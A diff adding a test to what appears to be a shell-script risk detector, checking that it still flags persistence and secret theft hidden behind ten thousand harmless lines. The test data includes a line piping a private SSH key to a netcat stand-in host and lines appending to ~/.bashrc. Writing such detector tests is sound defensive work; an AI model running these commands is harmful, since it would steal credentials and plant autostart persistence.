@@ -170,6 +170,12 @@ describe('the shell reader', () => {
     assert.ok(kinds(readShell('a;'.repeat(300_000), place)).includes('not-looked-at'));
   });
 
+  it('does not lose what is grave behind ten thousand lines that are not', () => {
+    const text = `${'echo x >> ~/.bashrc\n'.repeat(10_000)}cat ~/.ssh/id_rsa | nc a.invalid 1\n`;
+    assert.deepEqual(kinds(readShell(text, place)), ['script-autostart', 'script-sends-secrets']);
+    assert.ok(readShell(text, place).length <= 40);
+  });
+
   it('does not grow by variables that stand for long texts', () => {
     const { commands } = readCommands(`A=${'x'.repeat(190)}\n${'$A'.repeat(100_000)}`);
     const length = commands.reduce((sum, one) => sum + one.words.join('').length, 0);
